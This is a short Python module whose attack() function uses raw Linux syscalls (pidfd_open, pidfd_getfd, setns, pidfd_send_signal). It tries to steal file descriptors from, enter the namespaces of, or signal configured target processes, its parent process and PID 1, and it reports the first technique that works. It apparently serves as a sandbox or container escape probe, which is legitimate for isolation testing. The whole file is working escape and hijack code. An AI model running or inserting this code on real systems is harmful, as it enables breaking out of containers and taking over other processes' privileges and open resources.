"""Take hold of other processes by descriptor: signal them, take their descriptors, enter their namespaces."""

import ctypes
import os

PIDFD_SEND_SIGNAL, PIDFD_OPEN, PIDFD_GETFD, SETNS = 424, 434, 438, {"x86_64": 308, "aarch64": 268}[os.uname().machine]
ALL_BUT_USER = 0x20000 | 0x4000000 | 0x8000000 | 0x20000000 | 0x40000000
target = []


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in (*target, os.getppid(), 1):
        held = libc.syscall(ctypes.c_long(PIDFD_OPEN), pid, 0) if pid > 0 else -1
        if held < 0:
            continue
        for number in range(12):
            if libc.syscall(ctypes.c_long(PIDFD_GETFD), held, number, 0) >= 0:
                return f"took descriptor {number} of process {pid}"
        for flags in (ALL_BUT_USER, 0x10000000, 0x20000, 0x40000000):
            if libc.syscall(ctypes.c_long(SETNS), held, flags) == 0:
                return f"entered the namespaces of process {pid}"
        if pid != 1 and libc.syscall(ctypes.c_long(PIDFD_SEND_SIGNAL), held, 0, None, 0) == 0:
            return f"may signal process {pid}"
